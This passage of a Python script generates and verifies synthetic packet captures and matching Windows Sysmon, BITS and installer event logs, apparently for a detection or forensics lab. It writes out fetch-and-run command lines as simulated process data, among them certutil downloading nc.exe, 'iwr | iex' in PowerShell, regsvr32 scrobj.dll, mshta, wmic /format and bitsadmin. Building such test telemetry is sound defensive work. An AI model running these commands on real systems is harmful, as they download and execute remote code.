        fail("curl exit %d: %s" % (p.returncode, p.stderr.strip()))
    lines = p.stdout.splitlines()
    if len(lines) != len(conn.txs):
        fail("curl printed %d results for %d transfers" % (len(lines), len(conn.txs)))
    for i, (x, line, out) in enumerate(zip(conn.txs, lines, outs)):
        code, ctype, nconn = line.split("\t")
        if int(code) != x.status:
            fail("%s %s: status %s, want %d" % (x.method, x.url(), code, x.status))
        if ctype != x.ctype:
            fail("%s %s: Content-Type %r, want %r" % (x.method, x.url(), ctype, x.ctype))
        if i and nconn != "0":
            fail("%s %s: curl opened a new connection" % (x.method, x.url()))
        want = expected_body(tmp, x)
        got = open(out, "rb").read() if os.path.exists(out) else b""
        if want is not None and got != want:
            fail("%s %s: received body differs (%d bytes, want %d)" % (x.method, x.url(), len(got), len(want)))
        log("%-4s %-5s %-24s %-26.26s %s" % (h.tag, x.method, x.host, x.inner_uri or x.uri, code))


def run(tag, tmp):
    h = HOST_BY_TAG[tag]
    n = 0
    for i, fl in enumerate(flows_of(h)):
        if i:
            time.sleep(1.8)             # one command after another: a tool starts up to 1.5 s before its SYN
        for j, c in enumerate(fl.conns):
            if j:
                time.sleep(0.15)
            run_curl(tmp, h, c, n)
            n += 1


# --------------------------------------------------------------------------- reading captures
def tshark(pcap, *args):
    p = subprocess.run(["tshark", "-n", "-r", pcap] + list(args), capture_output=True, text=True)
    if p.returncode != 0:
        raise RuntimeError("tshark failed: " + p.stderr)
    return p.stdout


def ns_of(epoch):
    """'1700000000.123456789' -> integer nanoseconds."""
    s, _, f = epoch.partition(".")
    return int(s) * 10**9 + int((f + "000000000")[:9])


def capture_conns(pcap):
    """The TCP connections of a capture, in order: dicts with stream, cip, cport, sip, sport,
    syn_ns (client SYN), last_data_ns (last server payload), end_ns (last frame), and the
    requests the client sent in it (parsed here from the reassembled payload, independent of
    tshark's HTTP dissector) or the TLS SNI."""
    conns = collections.OrderedDict()
    rows = tshark(pcap, "-Y", "tcp", "-T", "fields", "-E", "separator=/t", "-e", "tcp.stream",
                  "-e", "frame.time_epoch", "-e", "ip.src", "-e", "tcp.srcport", "-e", "ip.dst",
                  "-e", "tcp.dstport", "-e", "tcp.flags.syn", "-e", "tcp.flags.ack", "-e", "tcp.len",
                  "-e", "tcp.seq", "-e", "tcp.payload")
    for line in rows.splitlines():
        st, t, src, sp, dst, dp, syn, ack, ln, seq, payload = (line.split("\t") + [""] * 11)[:11]
        st, t = int(st), ns_of(t)
        if st not in conns:
            if not (syn in ("1", "True") and ack in ("0", "False")):
                raise ValueError("stream %d does not start with a SYN" % st)
            conns[st] = {"stream": st, "cip": src, "cport": int(sp), "sip": dst, "sport": int(dp),
                         "syn_ns": t, "last_data_ns": t, "end_ns": t, "c2s": {}, "sni": None}
        c = conns[st]
        c["end_ns"] = t
        if int(ln or 0) > 0:
            if src == c["sip"]:
                c["last_data_ns"] = t
            else:
                c["c2s"][int(seq)] = bytes.fromhex(payload.replace(":", ""))
    for line in tshark(pcap, "-Y", "tls.handshake.type == 1", "-T", "fields", "-e", "tcp.stream",
                       "-e", "tls.handshake.extensions_server_name").splitlines():
        st, sni = line.split("\t")
        conns[int(st)]["sni"] = sni
    for c in conns.values():
        c["requests"] = []
        if c["sport"] == 443:
            continue
        data = b"".join(c["c2s"][k] for k in sorted(c["c2s"]))
        while data:
            head, sep, data = data.partition(b"\r\n\r\n")
            if not sep:
                raise ValueError("stream %d: incomplete request header" % c["stream"])
            lines = head.decode("latin-1").split("\r\n")
            method, uri, _ = lines[0].split(" ", 2)
            hd = {}
            for l in lines[1:]:
                k, _, v = l.partition(":")
                hd[k.strip().lower()] = v.strip()
            c["requests"].append((method, hd.get("host", ""), uri, hd.get("user-agent", "")))
            data = data[int(hd.get("content-length", "0")):]
        del c["c2s"]
    return list(conns.values())


def match_flows(h, conns):
    """[(flow, [capture connection per flow connection])], matched by the requests or the SNI."""
    out, i = [], 0
    for fl in flows_of(h):
        got = []
        for c in fl.conns:
            if i >= len(conns):
                raise ValueError("%s: fewer connections in the capture than in the table" % h.capture)
            k = conns[i]
            i += 1
            if c.tls:
                want_ok = k["sni"] == c.txs[0].host and k["sport"] == 443 and not k["requests"]
            else:
                want_ok = k["requests"] == [(x.method, x.host, x.uri, x.ua) for x in c.txs]
            if not want_ok or k["cip"] != h.ip or k["sip"] != c.txs[0].ip:
                raise ValueError("%s: connection %d (%s:%d -> %s:%d %r %r) does not match the table's %r"
                                 % (h.capture, k["stream"], k["cip"], k["cport"], k["sip"], k["sport"],
                                    k["sni"], k["requests"], [(x.method, x.host, x.uri) for x in c.txs]))
            got.append(k)
        out.append((fl, got))
    if i != len(conns):
        raise ValueError("%s: %d connections in the capture, %d in the table" % (h.capture, len(conns), i))
    return out


# --------------------------------------------------------------------------- verify a capture
def verify(tag, pcap, tmp):
    h = HOST_BY_TAG[tag]
    bad = []

    def ok(msg):
        print("  ok    " + msg)

    def want(what, got, exp):
        if got == exp:
            ok("%s: %s" % (what, got if len(str(got)) < 60 else str(got)[:57] + "..."))
        else:
            print("  FAIL  %s:\n          got  %r\n          want %r" % (what, got, exp))
            bad.append(what)

    def count(flt):
        return len(tshark(pcap, "-Y", flt).splitlines())

    def fields(flt, *names):
        a = ["-Y", flt, "-T", "fields", "-E", "separator=/t"]
        for n in names:
            a += ["-e", n]
        return [tuple(l.split("\t")) for l in tshark(pcap, *a).splitlines()]

    print(h.capture)
    size = os.path.getsize(pcap)
    want("%d bytes <= %d" % (size, MAX_PCAP), size <= MAX_PCAP, True)
    lens = [int(x) for x in tshark(pcap, "-T", "fields", "-e", "frame.len").split()]
    want("largest frame <= 1514", max(lens) <= 1514, True)
    ok("%d frames" % len(lens))
    others = " || ".join("ip.addr == %s" % a for a in SERVER_ADDRS)
    want("frames that are neither ARP nor IPv4 between %s and a server address" % h.ip,
         count("!arp && !(ip.addr == %s && (%s))" % (h.ip, others)), 0)
    want("TCP RSTs", count("tcp.flags.reset == 1"), 0)
    want("TCP analysis problems", count("tcp.analysis.flags && !tcp.analysis.window_update"), 0)
    flows = flows_of(h)
    http = [x for fl in flows for x in fl.txs() if x.method != "TLS"]
    exp = [(x.method, x.host, x.uri, x.ua) for x in http]
    conns = capture_conns(pcap)
    want("requests on the wire, own parse (method, Host, URI, User-Agent)",
         [r for c in conns for r in c["requests"]], exp)
    want("requests as tshark dissects them",
         fields("http.request", "http.request.method", "http.host", "http.request.uri", "http.user_agent"), exp)
    want("HTTP responses (status, Content-Type)", fields("http.response", "http.response.code", "http.content_type"),
         [(str(x.status), x.ctype) for x in http])
    want("TCP connections", len(conns), sum(len(fl.conns) for fl in flows))
    tls = [x for fl in flows for x in fl.txs() if x.method == "TLS"]
    want("TLS ClientHello SNIs", [f[0] for f in fields("tls.handshake.type == 1", "tls.handshake.extensions_server_name")],
         [x.host for x in tls])
    want("TLS ServerHellos", count("tls.handshake.type == 2"), len(tls))
    try:
        match_flows(h, conns)
        ok("every connection matches its flow in the table, in order")
    except ValueError as e:
        print("  FAIL  " + str(e))
        bad.append("match")
    eo = os.path.join(tmp, "eo-" + tag)
    subprocess.run(["rm", "-rf", eo])
    os.makedirs(eo)
    tshark(pcap, "-q", "--export-objects", "http," + eo)
    exported = {sha(open(os.path.join(eo, f), "rb").read()) for f in os.listdir(eo)}
    for x in http:
        b = expected_body(tmp, x)
        if b is None:
            continue
        if sha(b) in exported:
            ok("body %s %s%s sha256 %s…" % (x.method, x.host, x.uri[:30], sha(b)[:12]))
        else:
            print("  FAIL  body %s %s%s: no exported object has sha256 %s" % (x.method, x.host, x.uri, sha(b)))
            bad.append(x.uri)
    return not bad


# --------------------------------------------------------------------------- host events
SYSMON = ("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}", "Microsoft-Windows-Sysmon/Operational")
BITS = ("Microsoft-Windows-Bits-Client", "{ef1cc15b-46c1-414e-bb95-e76b077bd51e}", "Microsoft-Windows-Bits-Client/Operational")
MSI = ("MsiInstaller", None, "Application")
SYSMON_VERSION = {1: 5, 3: 5, 11: 2, 15: 2, 22: 5}
SYSMON_TITLE = {1: "Process Create:", 3: "Network connection detected:", 11: "File created:",
                15: "File stream created:", 22: "Dns query:"}
SYSMON_FIELDS = {
    1: "RuleName UtcTime ProcessGuid ProcessId Image FileVersion Description Product Company OriginalFileName "
       "CommandLine CurrentDirectory User LogonGuid LogonId TerminalSessionId IntegrityLevel Hashes "
       "ParentProcessGuid ParentProcessId ParentImage ParentCommandLine ParentUser",
    3: "RuleName UtcTime ProcessGuid ProcessId Image User Protocol Initiated SourceIsIpv6 SourceIp SourceHostname "
       "SourcePort SourcePortName DestinationIsIpv6 DestinationIp DestinationHostname DestinationPort "
       "DestinationPortName",
    11: "RuleName UtcTime ProcessGuid ProcessId Image TargetFilename CreationUtcTime User",
    15: "RuleName UtcTime ProcessGuid ProcessId Image TargetFilename CreationUtcTime Hash Contents User",
    22: "RuleName UtcTime ProcessGuid ProcessId QueryName QueryStatus QueryResults Image User",
}
SYSMON_FIELDS = {k: v.split() for k, v in SYSMON_FIELDS.items()}
PRODUCT_WIN = "Microsoft\u00ae Windows\u00ae Operating System"
# Image -> (FileVersion, Description, Product, Company, OriginalFileName) as Windows 10 22H2 has them.
META = {
    "C:\\Windows\\System32\\msiexec.exe": ("5.0.19041.3636 (WinBuild.160101.0800)", "Windows\u00ae installer",
                                           "Windows Installer - Unicode", "Microsoft Corporation", "msiexec.exe"),
    "C:\\Windows\\System32\\certutil.exe": ("10.0.19041.3570 (WinBuild.160101.0800)", "CertUtil.exe",
                                            PRODUCT_WIN, "Microsoft Corporation", "CertUtil.exe"),
    "C:\\Windows\\System32\\mshta.exe": ("11.00.19041.3570 (WinBuild.160101.0800)",
                                         "Microsoft (R) HTML Application host", "Internet Explorer",
                                         "Microsoft Corporation", "MSHTA.EXE"),
    "C:\\Windows\\System32\\regsvr32.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Microsoft(C) Register Server",
                                            PRODUCT_WIN, "Microsoft Corporation", "REGSVR32.EXE"),
    "C:\\Windows\\System32\\bitsadmin.exe": ("7.8.19041.1 (WinBuild.160101.0800)", "BITS administration utility",
                                             PRODUCT_WIN, "Microsoft Corporation", "bitsadmin.exe"),
    "C:\\Windows\\System32\\svchost.exe": ("10.0.19041.1806 (WinBuild.160101.0800)",
                                           "Host Process for Windows Services", PRODUCT_WIN,
                                           "Microsoft Corporation", "svchost.exe"),
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe": (
        "10.0.19041.3570 (WinBuild.160101.0800)", "Windows PowerShell", PRODUCT_WIN, "Microsoft Corporation",
        "PowerShell.EXE"),
    "C:\\Windows\\System32\\wbem\\WMIC.exe": ("10.0.19041.3636 (WinBuild.160101.0800)", "WMI Commandline Utility",
                                              PRODUCT_WIN, "Microsoft Corporation", "wmic.exe"),
    "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe": (
        "120.0.2210.91", "Microsoft Edge", "Microsoft Edge", "Microsoft Corporation", "msedge.exe"),
}
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
SVCHOST = "C:\\Windows\\System32\\svchost.exe"
NULL_IMPHASH = "0" * 32


def image_hashes(image):
    """Placeholder image hashes (Sysmon's format, upper-case hex), derived from the path and
    version so every host has the same ones: not the hashes of real Microsoft files."""
    seed = ("lolwire-hostev-image:%s:%s" % (image.lower(), META[image][0])).encode()
    return "SHA1=%s,MD5=%s,SHA256=%s,IMPHASH=%s" % (
        hashlib.sha1(seed).hexdigest().upper(), hashlib.md5(seed).hexdigest().upper(),
        hashlib.sha256(seed).hexdigest().upper(), hashlib.md5(b"imphash:" + seed).hexdigest().upper())


def content_hashes(data, imphash=NULL_IMPHASH):
    return "SHA1=%s,MD5=%s,SHA256=%s,IMPHASH=%s" % (
        hashlib.sha1(data).hexdigest().upper(), hashlib.md5(data).hexdigest().upper(),
        hashlib.sha256(data).hexdigest().upper(), imphash)


class Proc:
    """A Windows process.  pid and guid are given out after every process of the host is known,
    in start order (the ProcessGuid's 4th group counts up, its 2nd and 3rd hold the start time)."""
    def __init__(self, image, cmdline, start_ns, account, integrity, cwd, parent, session, logon, log_create=True):
        self.image, self.cmdline, self.start_ns, self.account = image, cmdline, start_ns, account
        self.integrity, self.cwd, self.parent, self.session = integrity, cwd, parent, session
        self.logon = logon                  # (logon id, logon time ns)
        self.log_create = log_create        # is there an EID 1 for it in the log
        self.pid = self.guid = None

    @property
    def name(self):
        return self.image.rsplit("\\", 1)[1]


def fmt_utc(ns):
    """Sysmon UtcTime: yyyy-MM-dd HH:mm:ss.SSS"""
    d = datetime.datetime.fromtimestamp(ns // 10**9, datetime.timezone.utc)
    return d.strftime("%Y-%m-%d %H:%M:%S") + ".%03d" % (ns // 10**6 % 1000)


def fmt_iso(ns, digits):
    d = datetime.datetime.fromtimestamp(ns // 10**9, datetime.timezone.utc)
    frac = "%09d" % (ns % 10**9)
    return d.strftime("%Y-%m-%dT%H:%M:%S") + "." + frac[:digits] + "Z"


def logon_guid(h, logon):
    lid, lt = logon
    t = lt // 10**9
    le = lid.to_bytes(8, "little")
    return "{%s-%04x-%04x-%s-%s}" % (h.prefix, t & 0xFFFF, t >> 16, le[:2].hex(), le[2:].hex())


def community_id(sip, dip, sp, dp, proto=6, seed=0):
    s, d = socket.inet_aton(sip), socket.inet_aton(dip)
    if (s, sp) > (d, dp):
        s, d, sp, dp = d, s, dp, sp
    return "1:" + base64.b64encode(hashlib.sha1(struct.pack(">H", seed) + s + d
                                                 + struct.pack(">BBHH", proto, 0, sp, dp)).digest()).decode()


class Event:
    """One Windows event in a neutral form: the three renderers below write it."""
    def __init__(self, src, eid, written_ns, data, **sys_):
        self.src, self.eid, self.written_ns, self.data = src, eid, written_ns, data
        self.sys = sys_


class HostLog:
    def __init__(self, h, conns):
        self.h = h
        self.rnd = random.Random("hostev-events:" + h.tag)
        self.procs, self.specs, self.rows = [], [], []
        self.off = h.offset * 10**9
        first = min(c["syn_ns"] for c in conns) + self.off
        self.boot = first - 3 * 3600 * 10**9 - self.rnd.randrange(10**9)
        sys_logon = (0x3E7, self.boot)
        self.system = ("NT AUTHORITY\\SYSTEM", "System", sys_logon)
        self.netsvc = ("NT AUTHORITY\\NETWORK SERVICE", "System", (0x3E4, self.boot + 2 * 10**9))
        self.user_logon = (h.logon_id, self.boot + 118 * 10**9 + self.rnd.randrange(10**9))
        self.services = self.proc("C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe",
                                  self.boot + 4 * 10**9, self.system, None, 0, "C:\\Windows\\system32\\", False)
        explorer = self.proc("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
                             self.user_logon[1] + 3 * 10**9, (h.account, "Medium", self.user_logon), None, 1,
                             "C:\\Windows\\system32\\", False)
        cmd = self.proc("C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" ",
                        first - 400 * 10**9, (h.account, h.integrity, self.user_logon), explorer, 1,
                        h.home + "\\", False)
        office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
        winword = self.proc(office + "WINWORD.EXE", "\"%sWINWORD.EXE\" /n \"%s\\Downloads\\invoice-0117.docm\" /o \"\""
                            % (office, h.home), first - 900 * 10**9, (h.account, "Medium", self.user_logon),
                            explorer, 1, h.home + "\\Documents\\", False)
        excel = self.proc(office + "EXCEL.EXE", "\"%sEXCEL.EXE\" \"%s\\Downloads\\Q4-report.xlsm\""
                          % (office, h.home), first - 700 * 10**9, (h.account, "Medium", self.user_logon),
                          explorer, 1, h.home + "\\Documents\\", False)
        self.parents = {"explorer": explorer, "cmd": cmd, "winword": winword, "excel": excel}
        self.rec = {SYSMON[2]: 40000 + self.rnd.randrange(50000), BITS[2]: 300 + self.rnd.randrange(900),
                    MSI[2]: 2000 + self.rnd.randrange(6000)}

    def proc(self, image, cmdline, start_ns, who, parent, session, cwd, log_create=True):
        account, integrity, logon = who
        p = Proc(image, cmdline, start_ns, account, integrity, cwd, parent, session, logon, log_create)
        self.procs.append(p)
        return p

    def user(self, parent_key):
        return (self.h.account, self.h.integrity if parent_key == "cmd" else "Medium", self.user_logon)

    def j(self, lo_ms, hi_ms):
        """Jitter in ns, uniform in [lo_ms, hi_ms] milliseconds."""
        return int(self.rnd.uniform(lo_ms, hi_ms) * 10**6)

    # Event specs are kept as closures: pids and guids are known only at the end.
    def sysmon(self, eid, utc_ns, fn, delay=None):
        if delay is None:
            delay = self.j(2, 45) if eid != 3 else self.j(15, 260)
        self.specs.append((utc_ns + delay, lambda: Event(SYSMON, eid, utc_ns + delay, [("RuleName", "-"),
                                                                                      ("UtcTime", fmt_utc(utc_ns))]
                                                         + fn())))

    def other(self, src, eid, written_ns, fn, **sys_):
        self.specs.append((written_ns, lambda: Event(src, eid, written_ns, fn(), **sys_)))

    # -- Sysmon event builders -------------------------------------------------------------
    def e1(self, p):
        def fn():
            par = p.parent
            meta = META[p.image]
            return [("ProcessGuid", p.guid), ("ProcessId", str(p.pid)), ("Image", p.image),
                    ("FileVersion", meta[0]), ("Description", meta[1]), ("Product", meta[2]),
                    ("Company", meta[3]), ("OriginalFileName", meta[4]), ("CommandLine", p.cmdline),
                    ("CurrentDirectory", p.cwd), ("User", p.account), ("LogonGuid", logon_guid(self.h, p.logon)),
                    ("LogonId", "0x%x" % p.logon[0]), ("TerminalSessionId", str(p.session)),
                    ("IntegrityLevel", p.integrity), ("Hashes", image_hashes(p.image)),
                    ("ParentProcessGuid", par.guid), ("ParentProcessId", str(par.pid)),
                    ("ParentImage", par.image), ("ParentCommandLine", par.cmdline), ("ParentUser", par.account)]
        self.sysmon(1, p.start_ns, fn)

    def e3(self, p, c, utc_ns):
        self.sysmon(3, utc_ns, lambda: [
            ("ProcessGuid", p.guid), ("ProcessId", str(p.pid)), ("Image", p.image), ("User", p.account),
            ("Protocol", "tcp"), ("Initiated", "true"), ("SourceIsIpv6", "false"), ("SourceIp", c["cip"]),
            ("SourceHostname", "-"), ("SourcePort", str(c["cport"])), ("SourcePortName", "-"),
            ("DestinationIsIpv6", "false"), ("DestinationIp", c["sip"]), ("DestinationHostname", "-"),
            ("DestinationPort", str(c["sport"])), ("DestinationPortName", "-")])

    def e11(self, p, path, utc_ns, created_ns=None):
        self.sysmon(11, utc_ns, lambda: [
            ("ProcessGuid", p.guid), ("ProcessId", str(p.pid)), ("Image", p.image), ("TargetFilename", path),
            ("CreationUtcTime", fmt_utc(created_ns or utc_ns)), ("User", p.account)])

    def e15(self, p, path, utc_ns, created_ns, data, contents):
        self.sysmon(15, utc_ns, lambda: [
            ("ProcessGuid", p.guid), ("ProcessId", str(p.pid)), ("Image", p.image), ("TargetFilename", path),
            ("CreationUtcTime", fmt_utc(created_ns)), ("Hash", content_hashes(data)), ("Contents", contents),
            ("User", p.account)])

    def e22(self, p, name, answer, utc_ns, cname=None):
        results = ("type:  5 %s;" % cname if cname else "") + "::ffff:%s;" % answer
        self.sysmon(22, utc_ns, lambda: [
            ("ProcessGuid", p.guid), ("ProcessId", str(p.pid)), ("QueryName", name), ("QueryStatus", "0"),
            ("QueryResults", results), ("Image", p.image), ("User", p.account)])

    @staticmethod
    def zone_identifier(host_url, referrer=None):
        """EID 15 for the main stream (Hash of the file, Contents -) and for :Zone.Identifier
        (Hash of the stream, Contents with CR LF rendered as two spaces), as Sysmon logs them."""
        zi = "[ZoneTransfer]\r\nZoneId=3\r\n" + ("ReferrerUrl=%s\r\n" % referrer if referrer else "") \
             + "HostUrl=%s\r\n" % host_url
        return zi.encode(), zi.replace("\r\n", "  ")

    def row(self, x, c, p):
        self.rows.append((x, c, p))

    # -- the flows ---------------------------------------------------------------------------
    def flow(self, fl, cs):
        h = self.h
        off = self.off
        t0 = cs[0]["syn_ns"] + off                    # host clock
        tE = cs[-1]["last_data_ns"] + off
        pk = h.parents.get(fl.kind)
        par = self.parents.get(pk)
        tmp = "%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\%s\\" % (
            h.home, "".join(self.rnd.choice("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") for _ in range(8)))
        cwd = h.home + "\\" if pk == "cmd" else "C:\\Windows\\system32\\" if pk == "explorer" else h.home + "\\Documents\\"

        def tool(image, cmdline, before_ms):
            p = self.proc(image, cmdline, t0 - self.j(*before_ms), self.user(pk), par, 1, cwd)
            self.e1(p)
            return p

        def connect(p, name, with_dns=True):
            if with_dns:
                self.e22(p, name, cs[0]["sip"], t0 - self.j(8, 60))
            for c in cs:
                self.e3(p, c, c["syn_ns"] + off + self.j(1, 14))

        txs = [(x, c) for k, c in zip(fl.conns, cs) for x in k.txs]
        if fl.kind == "msiexec":
            x = txs[0][0]
            p = tool("C:\\Windows\\System32\\msiexec.exe", "msiexec /i %s /qn" % x.url(), (350, 650))
            connect(p, x.host)
            t1040 = (tE + self.j(150, 450)) // 10**9 * 10**9            # MsiInstaller: whole seconds
            t1042 = t1040 + (2 + self.rnd.randrange(3)) * 10**9
            for eid, t, sid in ((1040, t1040, h.sid), (1042, t1042, "S-1-5-18")):
                self.other(MSI, eid, t, lambda: [(None, x.url()), (None, str(p.pid))] + [(None, "(NULL)")] * 4
                           + [(None, "")], sid=sid)
        elif fl.kind == "certutil":
            x = txs[0][0]
            dest = "C:\\Users\\Public\\nc.exe"
            p = tool("C:\\Windows\\System32\\certutil.exe",
                     "certutil.exe -urlcache -f %s %s" % (x.url(), dest), (180, 420))
            connect(p, x.host)
            cache = "%s\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\%s" % (
                h.home, hashlib.md5(x.url().encode()).hexdigest().upper())
            self.e11(p, cache, cs[0]["last_data_ns"] + off + self.j(2, 9))
            body = expected_body(TMPDIR, x)
            tf = tE + self.j(8, 25)
            self.e11(p, dest, tf)
            zi, contents = self.zone_identifier(x.url())
            self.e15(p, dest, tf + self.j(3, 12), tf, body, "-")
            self.e15(p, dest + ":Zone.Identifier", tf + self.j(13, 20), tf, zi, contents)
        elif fl.kind in ("mshta", "regsvr32", "wmic"):
            x = txs[0][0]
            image, cmdline, cached = {
                "mshta": ("C:\\Windows\\System32\\mshta.exe", "\"C:\\Windows\\system32\\mshta.exe\" %s" % x.url(),
                          "app[1].hta"),
                "regsvr32": ("C:\\Windows\\System32\\regsvr32.exe",
                             "regsvr32  /s /n /u /i:%s scrobj.dll" % x.url(), "r[1].sct"),
                "wmic": ("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic  os get /format:\"%s\"" % x.url(),
                         "f[1].xsl")}[fl.kind]
            if fl.kind == "mshta" and pk == "cmd":
                cmdline = "mshta.exe %s" % x.url()
            p = tool(image, cmdline, (220, 700))
            connect(p, x.host)
            self.e11(p, tmp + cached, tE + self.j(3, 30))
        elif fl.kind == "powershell":
            x = txs[0][0]
            p = tool("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                     "powershell -c \"iwr %s | iex\"" % x.url(), (900, 1500))
            connect(p, x.host)
        elif fl.kind == "bits":
            x = [t for t, _ in txs if t.method == "GET"][0]
            dest = "C:\\Users\\Public\\agent.exe"
            cmdline = "bitsadmin  /transfer job1 /download /priority normal %s %s" % (x.url(), dest)
            badm = tool("C:\\Windows\\System32\\bitsadmin.exe", cmdline, (900, 1300))
            svc = self.proc(SVCHOST, "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS",
                            badm.start_ns + self.j(60, 120), self.system, self.services, 0, "C:\\Windows\\system32\\")
            self.e1(svc)
            connect(svc, x.host)
            size = len(www_file(TMPDIR, x.body))
            first_get = [c for k, c in zip(fl.conns, cs)][0]
            self.e11(svc, "C:\\Users\\Public\\BIT%04X.tmp" % self.rnd.randrange(0x1000, 0xFFFF),
                     first_get["syn_ns"] + off + self.j(20, 40))
            job, transfer = self.guid_rand(), self.guid_rand()
            tid = lambda: 900 + 4 * self.rnd.randrange(700)
            t3 = svc.start_ns + self.j(80, 160)
            t59 = t0 - self.j(10, 30)
            t60 = tE + self.j(15, 45)
            common = lambda: [("transferId", transfer), ("name", "job1"), ("Id", job), ("url", x.url()),
                                   ("peer", "")]
            tids = (tid(), tid(), tid())
            self.other(BITS, 3, t3, lambda: [("string", "job1"), ("string2", h.account), ("string3", "")],
                       sid="S-1-5-18", version=0, opcode=0, execution=lambda: (svc.pid, tids[0]))
            self.other(BITS, 59, t59, lambda: common() + [
                ("fileTime", "2024-01-01T00:00:00.000000000Z"), ("fileLength", str(size)),
                ("bytesTotal", str(size)), ("bytesTransferred", "0"), ("bytesTransferredFromPeer", "0")],
                sid="S-1-5-18", version=1, opcode=1, activity=transfer, execution=lambda: (svc.pid, tids[1]))
            self.other(BITS, 60, t60, lambda: common() + [
                ("hr", "0"), ("fileTime", "2024-01-01T00:00:00.000000000Z"), ("fileLength", str(size)),
                ("bytesTotal", str(size)), ("bytesTransferred", str(size)), ("proxy", ""),
                ("peerProtocolFlags", "0"), ("bytesTransferredFromPeer", "0"), ("AdditionalInfoHr", "0"),
                ("PeerContextInfo", "0"), ("bandwidthLimit", "18446744073709551615"),
                ("ignoreBandwidthLimitsOnLan", "false")],
                sid="S-1-5-18", version=1, opcode=2, activity=transfer, execution=lambda: (svc.pid, tids[2]))
            p = svc
        elif fl.kind == "edge":
            x = txs[-1][0]
            main = self.proc(EDGE, "\"%s\" --profile-directory=Default" % EDGE, t0 - self.j(70000, 95000),
                             self.user("explorer"), self.parents["explorer"], 1,
                             "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\120.0.2210.91\\")
            net = self.proc(EDGE, "\"%s\" --type=utility --utility-sub-type=network.mojom.NetworkService "
                                  "--lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=%d "
                                  "--field-trial-handle=1980,i,%d,%d,262144 /prefetch:3"
                            % (EDGE, 2100 + 4 * self.rnd.randrange(100), self.rnd.getrandbits(63),
                               self.rnd.getrandbits(63)),
                            main.start_ns + self.j(180, 320), self.user("explorer"), main, 1,
                            "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\120.0.2210.91\\")
            self.e1(main)
            self.e1(net)
            self.e22(net, x.host, cs[0]["sip"], t0 - self.j(8, 40),
                     cname="www.example.com-v1.edgesuite.net" if h.tag == "bob" else None)
            for c in cs:
                self.e3(net, c, c["syn_ns"] + off + self.j(1, 14))
            dest = "%s\\Downloads\\tool.zip" % h.home
            tf = tE + self.j(40, 90)
            self.e11(main, dest, tf)
            referrer = [hd.split(": ", 1)[1] for hd in x.hdrs if hd.startswith("Referer:")][0]
            zi, contents = self.zone_identifier(x.url(), referrer)
            body = expected_body(TMPDIR, x)
            tz = tf + self.j(250, 400)
            self.e15(main, dest, tz, tf, body, "-")
            self.e15(main, dest + ":Zone.Identifier", tz, tf, zi, contents)
            p = net
        elif fl.kind == "cryptsvc":
            x = txs[0][0]
            p = self.proc(SVCHOST, "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s CryptSvc",
                          self.boot + self.j(9000, 12000), self.netsvc, self.services, 0, "C:\\Windows\\system32\\")
            self.e1(p)
            connect(p, x.host)
        else:
            raise ValueError(fl.kind)
        for x, c in txs:
            self.row(x, c, p)

    def guid_rand(self):
        return "{%s}" % uuid.UUID(int=self.rnd.getrandbits(128), version=4)

    def finish(self):
        """Give out pids and guids, then build the events in the order they were written."""
        used = set()
        for p in sorted(self.procs, key=lambda p: p.start_ns):
            while True:
                pid = 4 * self.rnd.randrange(100, 3200)
                if pid not in used:
                    break
            used.add(pid)
            p.pid = pid
        seq = self.h.seq0
        for p in sorted(self.procs, key=lambda p: p.start_ns):
            t = p.start_ns // 10**9
            seq += 1 + self.rnd.randrange(3)
            p.guid = "{%s-%04x-%04x-%02x%02x-%s}" % (self.h.prefix, t & 0xFFFF, t >> 16, seq & 0xFF, seq >> 8,
                                                    self.h.tail)
        events = [fn() for _, fn in sorted(self.specs, key=lambda s: s[0])]
        for e in events:
            chan = e.src[2]
            self.rec[chan] += 1 + (self.rnd.randrange(4) if chan == SYSMON[2] else 0)
            e.record = self.rec[chan]
            if e.src == SYSMON:
                e.execution = (self.h.sysmon_pid, 4000 + 4 * self.rnd.randrange(3))
            elif "execution" in e.sys:
                e.execution = e.sys["execution"]()
        return events


# -- renderers ---------------------------------------------------------------------------------
def upper_guids(s):
    return re.sub(r"\{[0-9a-fA-F-]{36}\}", lambda m: m.group(0).upper(), s)


def lower_guids(s):
    return re.sub(r"\{[0-9a-fA-F-]{36}\}", lambda m: m.group(0).lower(), s)


def message(e):
    if e.src == SYSMON:
        lines = [SYSMON_TITLE[e.eid]]
        for k, v in e.data:
            if k == "LogonId":
                v = "0x" + v[2:].upper()
            lines.append("%s: %s" % (k, v))
        return "\r\n".join(lines)
    d = dict(e.data) if e.src != MSI else None
    if e.src == MSI:
        what = "Beginning" if e.eid == 1040 else "Ending"
        return "%s a Windows Installer transaction: %s. Client Process Id: %s." % (what, e.data[0][1], e.data[1][1])
    if e.eid == 3:
        return "The BITS service created a new job: %s, with owner %s" % (d["string"], d["string2"])
    if e.eid == 59:
        return "BITS started the %s transfer job that is associated with the %s URL." % (d["name"], d["url"])
    return ("BITS stopped transferring the %s transfer job that is associated with the %s URL. "
            "The status code is 0x%X." % (d["name"], d["url"], int(d["hr"])))


def data_items(e):
    """(name, value) with unnamed <Data> (MsiInstaller) as param1, param2, … (Winlogbeat's names)."""
    return [(k if k is not None else "param%d" % (i + 1), v) for i, (k, v) in enumerate(e.data)]


def level_task_keywords(e):
    if e.src == SYSMON:
        return "4", str(e.eid), "0x8000000000000000"
    if e.src == BITS:
        return "4", "0", "0x4000000000000000"
    return "4", "0", "0x0080000000000000"


def render_flat(h, e):
